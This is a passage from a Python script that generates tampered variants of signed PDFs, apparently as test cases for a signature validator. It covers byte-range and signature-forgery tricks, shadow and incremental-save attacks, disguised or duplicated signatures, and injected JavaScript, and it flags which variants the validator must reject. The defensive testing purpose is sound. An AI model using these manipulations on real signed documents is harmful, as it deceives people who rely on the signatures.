        dss, cert = doc.new(), doc.new()
        d = {N("Type"): N("DSS"), N("Certs"): [Ref(cert)]}
        if v == "dss-action":
            d[N("OpenAction")] = {N("S"): N("JavaScript"), N("JS"): b"app.alert('PAY 1,000,000 TO MALLORY')"}
        else:
            d[N("Font")] = {N("FPay"): helvetica()}
            d[N("Pages")] = cat["/Pages"]
        cat[N("DSS")] = Ref(dss)
        doc.append({doc.root(): cat, dss: d, cert: Stream({}, b"not a certificate")})
    elif v == "needappearances":
        af, holder, in_cat = doc.acroform()
        af[N("NeedAppearances")] = True
        if in_cat:
            cat[N("AcroForm")] = af
            doc.append({doc.root(): cat})
        else:
            doc.append({holder: af})
    elif v == "info-new":  # a new /Info in the trailer
        i = doc.new()
        doc.append({i: {N("Title"): PAY, N("Author"): b"Mallory"}}, trailer={N("Info"): Ref(i)})
    elif v == "info-changed":  # the existing /Info object redefined
        info = doc.trailer.get("/Info")
        if not isinstance(info, Ref):
            raise NotApplicable("no /Info")
        d = doc.obj(info.num)
        d[N("Title")] = PAY
        d[N("Author")] = b"Mallory"
        doc.append({info.num: d})
    else:
        raise KeyError(v)


def duplicate_sig(doc, v):
    w, sig = sig_dict_num(doc)
    p = first_page(doc)
    if v == "copied-dict":  # the signature dictionary copied into a second field, widget elsewhere
        wd = doc.get(Ref(w))
        nsig, nw = doc.new(), doc.new()
        nd = dict(doc.obj(w))
        nd[N("T")] = b"eseal-copy"
        nd[N("V")] = Ref(nsig)
        nd[N("P")] = Ref(p)
        r = [float(doc.get(x)) for x in wd.get("/Rect", [0, 0, 100, 100])]
        x0, y0, x1, y1 = doc.mediabox(p)
        nd[N("Rect")] = [x0 + 40, y1 - 60 - (r[3] - r[1]), x0 + 40 + (r[2] - r[0]), y1 - 60]
        nd.pop("/Parent", None)
        nd.pop("/Kids", None)
        doc.append(with_field(doc, nw, with_annot(doc, p, nw, {nsig: doc.obj(sig), nw: nd})))
    elif v == "fields-twice":  # the signature field listed twice in /Fields
        doc.append(with_field(doc, w, {}))
    elif v == "annots-twice":  # the signature widget listed twice in its page's /Annots
        wd = doc.get(Ref(w))
        pg = wd["/P"].num if isinstance(wd.get("/P"), Ref) else p
        doc.append(with_annot(doc, pg, w, {}))
    else:
        raise KeyError(v)


def certify1_overlay(doc, v):
    need_p(doc, 1)
    p = first_page(doc)
    rect = full_rect(doc, p) if v == "fullpage" else top_rect(doc, p, 80)
    an, objs = annot_with_ap(doc, p, "Widget", rect, {N("FT"): N("Sig"), N("T"): b"Signature2"})
    doc.append(with_field(doc, an, with_annot(doc, p, an, objs)))


# class -> (function, [(variant, flags)]); flags: "plant" (needs `build.py plant` before
# stamping), "refuse" (the issue says it must never be VALID, even with identical renderings)
CLASSES = {
    "byte-range": (byte_range, ["wrap", "shorter", "overlapping", "gap-not-contents", "moved-second-part"]),
    "usf": (usf, ["byterange-null", "byterange-missing", "byterange-string", "contents-null", "contents-missing",
                  "contents-number"]),
    "isa": (isa, ["content", "page-dict", "page-tree", "new-page"]),
    "isa-xref-stream": (isa_xref_stream, ["content", "page-dict", "page-tree", "new-page"]),
    "object-streams": (object_streams, ["page", "font", "pages-node"]),
    "new-root": (new_root, ["new-catalog", "same-number", "new-catalog-xref-stream"]),
    "docmdp": (docmdp, ["p1-comment", "p1-content", "p2-comment", "p2-freetext", "p3-square"]),
    "annotations": (annotations, ["square", "freetext", "stamp", "ink", "link-uri", "link-js"]),
    "widgets": (widgets, ["new-text-field", "sig-ap-changed", "sig-rect-moved", "text-field-ap"]),
    "page-boxes": (page_boxes, ["mediabox", "cropbox", "rotate", "inherited-rotate", "inherited-cropbox"]),
    "fonts": (fonts, ["redefined", "differences", "fontfile-replaced"]),
    "javascript": (javascript, ["openaction", "catalog-aa", "page-aa"]),
    "shadow-hide": (shadow_hide, ["remove-cover", "hide-flag", "empty-ap"]),
    "shadow-replace": (shadow_replace, ["overlay-ap", "overlay-contents", "font-overwrite"]),
    "shadow-hide-and-replace": (shadow_hide_and_replace, ["contents", "kids", "xref-only"]),
    "disguised-sig": (disguised_sig, ["freetext", "stamp", "link-js", "link-uri", "second-field-v", "unsigned-fullpage"]),
    "redefine": (redefine, ["generation-table", "generation-stream", "twice-in-revision", "after-eof", "hybrid"]),
    "inherit": (inherit, ["mid-resources", "mid-resources-object", "mid-boxes", "dss-resources"]),
    "catalog-meta": (catalog_meta, ["dss-action", "dss-extra-keys", "needappearances", "info-new", "info-changed"]),
    "duplicate-sig": (duplicate_sig, ["copied-dict", "fields-twice", "annots-twice"]),
    "certify1-overlay": (certify1_overlay, ["fullpage", "box"]),
}
PLANTED = {"shadow-hide", "shadow-replace", "shadow-hide-and-replace", "inherit"}
# Classes whose every output must be refused whatever the renderers show: the issue names them as
# changes no permission explains (actions, metadata, duplicated or disguised signatures,
# definitions readers resolve differently).
REFUSE = {"javascript", "redefine", "catalog-meta", "duplicate-sig", "disguised-sig", "certify1-overlay",
          "byte-range", "usf", "new-root", "docmdp"}


def flags(cls):
    f = []
    if cls in PLANTED:
        f.append("plant")
    if cls in REFUSE:
        f.append("refuse")
    return f


def apply(cls, variant, src, dst):
    fn, variants = CLASSES[cls]
    if variant not in variants:
        raise KeyError("%s has no variant %s" % (cls, variant))
    doc = Doc(src)
    fn(doc, variant)
    open(dst, "wb").write(doc.data)


def main(argv):
    if argv[:1] == ["list"]:
        for cls, (_, variants) in CLASSES.items():
            print("%s\t%s\t%s" % (cls, " ".join(variants), ",".join(flags(cls)) or "-"))
        return 0
    try:
        if argv[:1] == ["plant"] and len(argv) == 5:
            _, cls, variant, src, dst = argv
            if cls not in PLANTED:
                raise NotApplicable("class %s plants nothing" % cls)
            doc = Doc(src)
            plant(doc, cls, variant)
            open(dst, "wb").write(doc.data)
            return 0
        if len(argv) == 4 and argv[0] in CLASSES:
            apply(*argv)
            return 0
    except NotApplicable as e:
        print("not applicable: %s" % e, file=sys.stderr)
        return 3
    except KeyError as e:
        print("build.py: %s" % e, file=sys.stderr)
        return 2
    print("usage: build.py list | build.py CLASS VARIANT IN.pdf OUT.pdf | build.py plant CLASS VARIANT IN.pdf OUT.pdf",
          file=sys.stderr)
    return 2


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
